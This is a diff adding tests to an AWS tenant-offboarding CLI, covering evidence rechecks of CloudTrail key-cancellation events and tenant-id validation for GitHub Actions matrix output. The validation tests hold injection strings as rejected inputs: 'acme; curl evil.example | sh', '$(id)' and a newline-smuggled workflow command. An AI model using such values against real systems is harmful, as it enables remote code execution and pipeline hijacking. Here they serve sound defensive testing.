@@ -4,7 +4,7 @@
  * the cases the moto suite (test/integration/offboard.test.ts) does not cover.
  */
 import { createHash } from "node:crypto";
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { mockClient } from "aws-sdk-client-mock";
@@ -21,7 +21,7 @@ import {
 import { DescribeServicesCommand, ECSClient } from "@aws-sdk/client-ecs";
 import { DescribeKeyCommand, KMSClient } from "@aws-sdk/client-kms";
 import { CloudTrailClient, LookupEventsCommand, type Event as TrailEvent } from "@aws-sdk/client-cloudtrail";
-import { deleteBucket, deleteSecret, scheduleKey } from "./cloudtrail-events";
+import { cancelKey, deleteBucket, deleteSecret, scheduleKey } from "./cloudtrail-events";
 import * as offboard from "../../pipeline/offboard";
 import { lambdaInvoker } from "../../pipeline/lib/offboarding-aws";
 import { plannedDeletes, stateResources, tenantInventory } from "../../pipeline/lib/terraform-state";
@@ -464,6 +464,65 @@ describe("offboarding job (in-memory AWS)", () => {
     expect(w.invoke).toHaveBeenCalledTimes(2); // export and drop, both in the first run
   });
 
+  /** --evidence-only over a finished offboarding, counting LookupEvents calls and the record's versions. */
+  async function evidenceOnlyRun(w: ReturnType<typeof evidenceJob>, recordJson: string, now?: () => Date) {
+    const dir = cliRepo("offboarded", recordJson);
+    const lines: string[] = [];
+    const lookups: string[] = [];
+    const cloudtrail = { send: async (c: LookupEventsCommand) => (lookups.push(c.input.LookupAttributes![0].AttributeValue!), w.aws.cloudtrail.send(c)) } as unknown as CloudTrailClient;
+    const clients = (region: string) => ({ ...w.deps.clients(region), cloudtrail });
+    const summary = join(dir, "summary.md");
+    const code = await offboard.main(["--evidence-only", "--tenants", join(dir, "tenants"), "--environment", "production", "--cdktf-json", join(dir, "cdktf.json"), "--summary", summary], {
+      ...w.deps,
+      clients,
+      ...(now ? { now } : {}),
+      print: (l) => lines.push(l),
+    });
+    const versions = w.aws.buckets.get("state")!.filter((v) => recordJson.endsWith(v.key));
+    return { code, lines, lookups, versions, summary: readFileSync(summary, "utf8"), record: JSON.parse(versions[versions.length - 1].body!.toString()) as { evidence: { steps: { step: string; status: string; reversedBy?: { eventName: string } }[] } } };
+  }
+
+  test("--evidence-only re-checks a complete record while its deletions can still be undone, and flags a CancelKeyDeletion (exit 2, record says reversed)", async () => {
+    const w = evidenceJob();
+    const first = await offboard.offboardTenant(w.tenant, w.deps);
+    expect(first.record!.evidence!.pending).toEqual([]);
+    // Days later, inside the key's 30-day window (deletion on 2026-12-31), someone cancels the deletion.
+    w.aws.trail.push(cancelKey(KEY_ARN, { time: w.deps.now().toISOString() }));
+    const run = await evidenceOnlyRun(w, first.record!.location.json);
+    expect(run.code).toBe(2);
+    expect(run.lookups).toEqual(["CancelKeyDeletion", "RestoreSecret"]);
+    expect(run.lines).toEqual([`acme: UNDONE: key-deletion-scheduled ${KEY_ARN} undone by CancelKeyDeletion (${first.record!.location.json})`]);
+    expect(run.record.evidence.steps.find((s) => s.step === "key-deletion-scheduled")).toMatchObject({ status: "reversed", reversedBy: { eventName: "CancelKeyDeletion" } });
+    expect(run.versions).toHaveLength(2);
+    expect(run.summary).toContain(`### Offboarding evidence in production\n\n- acme: UNDONE: key-deletion-scheduled ${KEY_ARN} undone by CancelKeyDeletion`);
+    expect(run.summary).toContain("**then undone**: CancelKeyDeletion");
+    // Still undone the next day: flagged again, but the record is not rewritten when nothing changed.
+    const again = await evidenceOnlyRun(w, first.record!.location.json);
+    expect(again.code).toBe(2);
+    expect(again.versions).toHaveLength(2);
+  });
+
+  test("--evidence-only leaves a complete record alone when nothing was undone: no rewrite, exit 0", async () => {
+    const w = evidenceJob();
+    const first = await offboard.offboardTenant(w.tenant, w.deps);
+    const run = await evidenceOnlyRun(w, first.record!.location.json);
+    expect(run.code).toBe(0);
+    expect(run.lookups).toEqual(["CancelKeyDeletion", "RestoreSecret"]);
+    expect(run.lines).toEqual([`acme: evidence complete (${first.record!.location.json})`]);
+    expect(run.summary).toContain(`### Offboarding evidence in production\n\n- acme: evidence complete (${first.record!.location.json})`);
+    expect(run.versions).toHaveLength(1);
+  });
+
+  test("--evidence-only no longer looks a complete record up once the key is deleted and the secrets' recovery windows are over", async () => {
+    const w = evidenceJob();
+    const first = await offboard.offboardTenant(w.tenant, w.deps);
+    w.aws.trail.push(cancelKey(KEY_ARN, { time: w.deps.now().toISOString() }));
+    const run = await evidenceOnlyRun(w, first.record!.location.json, () => new Date("2027-02-01T00:00:00Z"));
+    expect(run.lookups).toEqual([]);
+    expect(run.code).toBe(0);
+    expect(run.versions).toHaveLength(1);
+  });
+
   test("--evidence-wait looks again after the last tenant until CloudTrail shows the events", async () => {
     const w = evidenceJob();
     w.aws.delivery.delivered = false;
@@ -523,6 +582,46 @@ describe("offboard CLI", () => {
     const r = await runCli("offboard", offboard, ["--list", "--tenants", join(dir, "tenants"), "--cdktf-json", join(dir, "cdktf.json"), "--github-output", out]);
     expect(r.status).toBe(0);
     expect(readFileSync(out, "utf8")).toBe('matrix={"include":[{"environment":"production","envKey":"PRODUCTION","region":"us-east-1"}]}\ncount=1\n');
+  });
+
+  test("--list --evidence-only lists the environments with offboarding or offboarded tenants, each entry naming the tenant to check (all: empty)", async () => {
+    for (const status of ["offboarding", "offboarded"]) {
+      const dir = repo(status);
+      const out = join(dir, "gh-output");
+      const r = await runCli("offboard", offboard, ["--list", "--evidence-only", "--tenants", join(dir, "tenants"), "--cdktf-json", join(dir, "cdktf.json"), "--github-output", out]);
+      expect({ status, code: r.status, stderr: r.stderr }).toMatchObject({ status, code: 0 });
+      expect(readFileSync(out, "utf8")).toBe('matrix={"include":[{"environment":"production","envKey":"PRODUCTION","region":"us-east-1","tenant":""}]}\ncount=1\n');
+    }
+    const dir = repo("active");
+    const out = join(dir, "gh-output");
+    expect((await runCli("offboard", offboard, ["--list", "--evidence-only", "--tenants", join(dir, "tenants"), "--cdktf-json", join(dir, "cdktf.json"), "--github-output", out])).status).toBe(0);
+    expect(readFileSync(out, "utf8")).toBe('matrix={"include":[]}\ncount=0\n');
+  });
+
+  test("--list --evidence-only --tenant names only that tenant's environment, after checking the id", async () => {
+    const dir = repo("offboarded");
+    const out = join(dir, "gh-output");
+    const r = await runCli("offboard", offboard, ["--list", "--evidence-only", "--tenant", "acme", "--tenants", join(dir, "tenants"), "--cdktf-json", join(dir, "cdktf.json"), "--github-output", out]);
+    expect(r.status).toBe(0);
+    expect(readFileSync(out, "utf8")).toBe('matrix={"include":[{"environment":"production","envKey":"PRODUCTION","region":"us-east-1","tenant":"acme"}]}\ncount=1\n');
+  });
+
+  test.each([
+    ["acme; curl evil.example | sh", "--tenant must be a tenant id"],
+    ["acme\n::add-mask::x", "--tenant must be a tenant id"],
+    ["$(id)", "--tenant must be a tenant id"],
+    ["Acme", "--tenant must be a tenant id"],
+    ["ghost", "--tenant ghost: no tenants/ghost.yaml"],
+    ["beta", "--tenant beta: status active, not offboarding or offboarded"],
+  ])("--list --evidence-only refuses --tenant %j with exit 1, writing no matrix", async (tenant, message) => {
+    const dir = repo("offboarded");
+    const out = join(dir, "gh-output");
+    const r = await runCli("offboard", offboard, ["--list", "--evidence-only", "--tenant", tenant, "--tenants", join(dir, "tenants"), "--cdktf-json", join(dir, "cdktf.json"), "--github-output", out]);
+    expect(r.status).toBe(1);
+    expect(r.stderr).toContain(message);
+    expect(existsSync(out)).toBe(false);
+    // The refused value is quoted on one line: it cannot start a workflow command of its own.
+    expect(r.stderr.split("\n").filter((l) => l.startsWith("::") && !l.startsWith("::error::"))).toEqual([]);
   });
 
   test("does nothing when no tenant is offboarding", async () => {
